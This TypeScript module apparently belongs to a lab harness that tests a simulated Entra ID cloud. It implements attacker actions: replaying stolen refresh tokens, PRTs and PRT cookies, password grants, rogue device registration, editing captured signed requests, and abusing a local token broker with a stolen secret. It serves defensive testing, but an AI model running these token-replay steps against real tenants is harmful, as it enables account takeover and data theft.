/**
 * The attacker's actions (model.ts ACTIONS), each given only the stolen artifact, the cloud's URL
 * and the lab CA. Each returns an observation: every request it sent, which one decides the
 * outcome, what it stole and what it got. The cloud's refusals are observations, not errors; only
 * an artifact that does not work on this host (a copied device that does not open) is reported as
 * a local error.
 */
import { createHash, randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { basename, dirname, join } from 'node:path';
import { BrokerRpcError } from '../../broker/errors.ts';
import { PROFILES, type ProfileName } from '../../clients/profiles.ts';
import { RESOURCES, type ResourceTarget } from '../../clients/resources.ts';
import { isPrtlabError } from '../../lib/errors.ts';
import { PRT_COOKIE_NAME, WINDOWS_BROKER_CLIENT_ID } from '../../protocol/index.ts';
import { fingerprint, jwtClaims } from '../fingerprint.ts';
import { type ActionName, USER_AGENTS, type UserAgentName } from '../model.ts';
import { EntraClient } from './entra.ts';
import type { Answer } from './http.ts';
import type { AttackerSpec, Observation, RequestRecord, TokenFacts } from './protocol.ts';

type Json = Record<string, unknown>;

/** Where Entra's native clients take their codes from (read off the redirect, never fetched). */
const NATIVE_CLIENT_REDIRECT_URI = 'https://login.microsoftonline.com/common/oauth2/nativeclient';

/** A password is shown by kind only: even a truncated hash of one is more than evidence needs. */
const PASSWORD_FACTS: TokenFacts = { kind: 'user name and password', fingerprint: '' };

async function readJson(path: string): Promise<Json> {
  const j = JSON.parse(await readFile(path, 'utf8'));
  if (typeof j !== 'object' || j === null) throw new Error(`${basename(path)} is not an object`);
  return j;
}

function str(j: Json, key: string): string {
  const v = j[key];
  if (typeof v !== 'string' || v === '') throw new Error(`the artifact has no '${key}'`);
  return v;
}

function resourceOf(spec: AttackerSpec): ResourceTarget {
  const name = spec.with.resource as keyof typeof RESOURCES;
  const r = RESOURCES[name];
  if (!r) throw new Error(`unknown resource '${spec.with.resource}'`);
  return r;
}

function profileOf(name: string | undefined) {
  return name === undefined ? undefined : PROFILES[name as ProfileName];
}

function userAgentHeaders(
  spec: AttackerSpec,
  fallback: UserAgentName = 'windows-desktop',
): Record<string, string> {
  const ua = USER_AGENTS[(spec.with.userAgent ?? fallback) as UserAgentName];
  return ua ? { 'user-agent': ua } : {};
}

/** What an issued access token is: device-bound when it carries a device id. */
function accessTokenFacts(token: unknown): TokenFacts | undefined {
  if (typeof token !== 'string') return undefined;
  return {
    kind: 'access token',
    fingerprint: fingerprint(token),
    deviceBound: typeof jwtClaims(token)?.deviceid === 'string',
  };
}

function done(
  records: RequestRecord[],
  stolen: TokenFacts,
  got?: TokenFacts | undefined,
): Observation {
  return {
    requests: records,
    ...(records.length > 0 ? { decisive: records.length - 1 } : {}),
    stolen,
    ...(got ? { got } : {}),
  };
}

function issued(a: Answer): TokenFacts | undefined {
  if (a.status !== 200) return undefined;
  try {
    return accessTokenFacts(JSON.parse(a.body).access_token);
  } catch {
    return undefined;
  }
}

/** The refresh token an artifact holds, and the client it was issued to. */
async function refreshTokenOf(
  spec: AttackerSpec,
): Promise<{ token: string; clientId: string; kind: string }> {
  const j = await readJson(spec.artifact);
  switch (spec.artifactKind) {
    case 'token-cache-file': {
      // The plain cache a command-line tool keeps (clients/token-cache.ts).
      const accounts = (j.accounts ?? {}) as Record<string, Json>;
      const account = Object.values(accounts).find((a) => typeof a.refreshToken === 'string');
      if (!account) throw new Error('the token cache holds no refresh token');
      return {
        token: str(account, 'refreshToken'),
        clientId: str(j, 'clientId'),
        kind: 'refresh token',
      };
    }
    case 'broker-cache-entry':
      return {
        token: str(j, 'refreshToken'),
        clientId: str(j, 'clientId'),
        kind: 'bound app refresh token',
      };
    case 'prt':
      return { token: str(j, 'prt'), clientId: WINDOWS_BROKER_CLIENT_ID, kind: 'PRT' };
    default:
      throw new Error(`no refresh token in a ${spec.artifactKind}`);
  }
}

type Action = (spec: AttackerSpec, entra: EntraClient) => Promise<Observation>;

const ACTIONS: Readonly<Record<ActionName, Action>> = {
  async 'redeem-refresh-token'(spec, entra) {
    const rt = await refreshTokenOf(spec);
    const clientId = profileOf(spec.with.client)?.appId ?? rt.clientId;
    const a = await entra.token(
      `refresh_token grant with the stolen ${rt.kind}`,
      {
        grant_type: 'refresh_token',
        client_id: clientId,
        refresh_token: rt.token,
        resource: resourceOf(spec).resource,
      },
      userAgentHeaders(spec),
    );
    return done(entra.records, { kind: rt.kind, fingerprint: fingerprint(rt.token) }, issued(a));
  },

  async 'password-sign-in'(spec, entra) {
    const creds = await readJson(spec.artifact);
    const client = profileOf(spec.with.client)!;
    const a = await entra.token(
      `password grant as ${client.displayName}`,
      {
        grant_type: 'password',
        client_id: client.appId,
        username: str(creds, 'username'),
        password: str(creds, 'password'),
        resource: resourceOf(spec).resource,
      },
      userAgentHeaders(spec),
    );
    return done(entra.records, PASSWORD_FACTS, issued(a));
  },

  async 'register-device'(spec, entra) {
    const creds = await readJson(spec.artifact);
    const username = str(creds, 'username');
    const password = str(creds, 'password');
    const stolen = PASSWORD_FACTS;
    const client = profileOf(spec.with.client)!;
    const drs = await entra.drsToken(username, password);
    if (!drs) return done(entra.records, stolen);
    const device = await entra.registerDevice(drs, username.slice(username.lastIndexOf('@') + 1));
    if (!device) return done(entra.records, stolen);
    const session = await entra.requestPrt(device, username, password);
    if (!session) return done(entra.records, stolen);
    const { json } = await entra.appTokenViaPrt(
      `app token through its own PRT as ${client.displayName}`,
      session.prt,
      session.sessionKey,
      {
        clientId: client.appId,
        resource: resourceOf(spec).resource,
        appVersion: spec.with.version ?? client.version,
      },
    );
    return done(entra.records, stolen, accessTokenFacts(json?.access_token));
  },

  async 'sign-with-own-key'(spec, entra) {
    const rt = await refreshTokenOf(spec);
    const client = profileOf(spec.with.client)!;
    // The real session key is a non-duplicable TPM object on the victim's device (prt-protocol
    // §5.6); the attacker can only sign with a key of its own.
    const guessed = randomBytes(32);
    const { json } = await entra.appTokenViaPrt(
      `session-key-signed request carrying the stolen ${rt.kind}, signed with the attacker's own key`,
      rt.token,
      guessed,
      { clientId: client.appId, resource: resourceOf(spec).resource, appVersion: client.version },
    );
    return done(
      entra.records,
      { kind: rt.kind, fingerprint: fingerprint(rt.token) },
      accessTokenFacts(json?.access_token),
    );
  },

  async 'replay-request'(spec, entra) {
    const captured = await readJson(spec.artifact);
    const body = str(captured, 'body');
    const form = new URLSearchParams(body);
    const request = form.get('request') ?? '';
    let sent = body;
    let what = 'the captured PRT-signed request, byte for byte';
    if (spec.with.edit === 'resource') {
      // Another resource in the payload; the header and signature stay as captured.
      const [h, p, s] = request.split('.');
      const payload = JSON.parse(Buffer.from(p ?? '', 'base64url').toString('utf8'));
      payload.resource = RESOURCES.sharepoint.resource;
      form.set(
        'request',
        `${h}.${Buffer.from(JSON.stringify(payload)).toString('base64url')}.${s}`,
      );
      sent = form.toString();
      what = 'the captured PRT-signed request with its payload edited (another resource)';
    }
    await entra.tokenBody(what, sent);
    return done(entra.records, { kind: 'PRT-signed request', fingerprint: fingerprint(request) });
  },

  async 'call-resource'(spec, entra) {
    const token = str(await readJson(spec.artifact), 'accessToken');
    const r = resourceOf(spec);
    await entra.bearerGet(`GET ${r.path} with the stolen access token`, r.path, token);
    // What the attacker gets is the resource's data, not a token.
    return done(entra.records, accessTokenFacts(token)!);
  },

  async 'ask-broker'(spec, entra) {
    const file = await readJson(spec.artifact);
    const secret = str(file, 'secret');
    const port = Number(file.port);
    const client = profileOf(spec.with.client)!;
    const { BrokerClient } = await import('../../broker/client.ts');
    const broker = await BrokerClient.connect({ port, secret });
    const stolen = { kind: 'broker caller secret', fingerprint: fingerprint(secret) };
    try {
      const { accounts } = await broker.getAccounts();
      const account = accounts[0];
      if (!account) throw new Error('the broker has no signed-in account');
      const what = `broker acquireTokenSilent as ${client.displayName} (forceRefresh)`;
      try {
        const t = await broker.acquireTokenSilent({
          clientId: client.appId,
          resource: resourceOf(spec).resource,
          accountId: account.id,
          clientVersion: spec.with.version ?? client.version,
          forceRefresh: true,
        });
        entra.records.push({ what, status: 200, correlationId: t.correlationId });
        return done(entra.records, stolen, accessTokenFacts(t.accessToken));
      } catch (err) {
        // The broker answered with a JSON-RPC error carrying the cloud's refusal (broker/errors.ts).
        if (!(err instanceof BrokerRpcError)) throw err;
        const data = err.data ?? { error: undefined, aadsts: null, correlationId: undefined };
        entra.records.push({
          what,
          status: 400,
          ...(data.error ? { error: data.error } : {}),
          ...(typeof data.aadsts === 'number' ? { aadsts: data.aadsts } : {}),
          ...(data.correlationId ? { correlationId: data.correlationId } : {}),
        });
        return done(entra.records, stolen);
      }
    } finally {
      await broker.close();
    }
  },

  async 'open-copied-device'(spec, entra) {
    const client = profileOf(spec.with.client)!;
    const name = basename(spec.artifact);
    const dataDir = dirname(dirname(spec.artifact));
    const stolen = {
      kind: 'device directory copy',
      fingerprint: fingerprint(await readFile(join(spec.artifact, 'device.json'))),
    };
    const agentModule = await import('../../agent/index.ts');
    let agent: Awaited<ReturnType<typeof agentModule.openDeviceAgent>>;
    try {
      agent = await agentModule.openDeviceAgent({ dataDir, name });
    } catch (err) {
      if (!isPrtlabError(err)) throw err;
      return { requests: [], stolen, localError: { code: err.code, message: err.message } };
    }
    const what = `app token through the copied PRT as ${client.displayName}`;
    try {
      const [account] = await agent.accounts();
      if (!account) throw new Error('the copied device has no signed-in account');
      try {
        const t = await agent.acquireToken({
          accountId: account.id,
          clientId: client.appId,
          resource: resourceOf(spec).resource,
          clientVersion: spec.with.version ?? client.version,
        });
        entra.records.push({ what, status: 200, correlationId: t.correlationId });
        return done(entra.records, stolen, accessTokenFacts(t.accessToken));
      } catch (err) {
        if (err instanceof agentModule.AgentCloudError) {
          entra.records.push({
            what,
            status: err.status,
            error: err.refusal.error,
            aadsts: err.refusal.aadsts,
            correlationId: err.refusal.correlationId,
          });
          return done(entra.records, stolen);
        }
        if (!isPrtlabError(err)) throw err;
        return {
          requests: entra.records,
          stolen,
          localError: { code: err.code, message: err.message },
        };
      }
    } finally {
      await agent.close();
    }
  },

  async 'replay-cookie'(spec, entra) {
    const cookie = await readJson(spec.artifact);
    const data = str(cookie, 'data');
    const stolen = { kind: 'PRT cookie', fingerprint: fingerprint(data) };
    const client = profileOf(spec.with.client)!;
    const ua = userAgentHeaders(spec, 'browser');
    // The browser SSO path (prt-protocol §6.3, §8 "Cookie-only"): the cookie at /authorize for
    // an authorization code, the code at the token endpoint. prompt=none, as a script that
    // cannot type a password sends it: a cookie the cloud ignores then comes back as
    // interaction_required rather than a login page (OpenID Connect Core §3.1.2.6). PKCE is the
    // attacker's own: it protects a code in transit, not a stolen cookie.
    const verifier = randomBytes(32).toString('base64url');
    const state = randomBytes(16).toString('base64url');
    const code = await entra.authorizationCode({
      query: {
        client_id: client.appId,
        response_type: 'code',
        redirect_uri: NATIVE_CLIENT_REDIRECT_URI,
        resource: resourceOf(spec).resource,
        state,
        prompt: 'none',
        code_challenge: createHash('sha256').update(verifier).digest('base64url'),
        code_challenge_method: 'S256',
      },
      headers: {
        ...ua,
        ...(spec.with.transport === 'header'
          ? { [PRT_COOKIE_NAME]: data }
          : { cookie: `${PRT_COOKIE_NAME}=${data}` }),
      },
      redirectUri: NATIVE_CLIENT_REDIRECT_URI,
      state,
    });
    if (code === undefined) return done(entra.records, stolen);
    const a = await entra.token(
      `authorization_code grant as ${client.displayName} with the code the cookie got`,
      {
        grant_type: 'authorization_code',
        client_id: client.appId,
        code,
        redirect_uri: NATIVE_CLIENT_REDIRECT_URI,
        code_verifier: verifier,
      },
      ua,
    );
    const got = issued(a);
    // The access token names the device (the PRT's device claims carry over, §6.3), yet nothing
    // of this session is bound: the answer is plain JSON with a bearer refresh token, where a
    // bound session's is encrypted to the session key (§6.2, §7).
    return done(entra.records, stolen, got && { ...got, deviceBound: false });
  },
};

/** Runs the spec's action against the cloud it names. */
export async function runAction(spec: AttackerSpec): Promise<Observation> {
  const action = ACTIONS[spec.action];
  if (!action) throw new Error(`unknown action '${spec.action}'`);
  const ca = await readFile(spec.caPath, 'utf8');
  const entra = new EntraClient({ base: spec.cloudUrl, ca }, spec.tenant);
  return action(spec, entra);
}
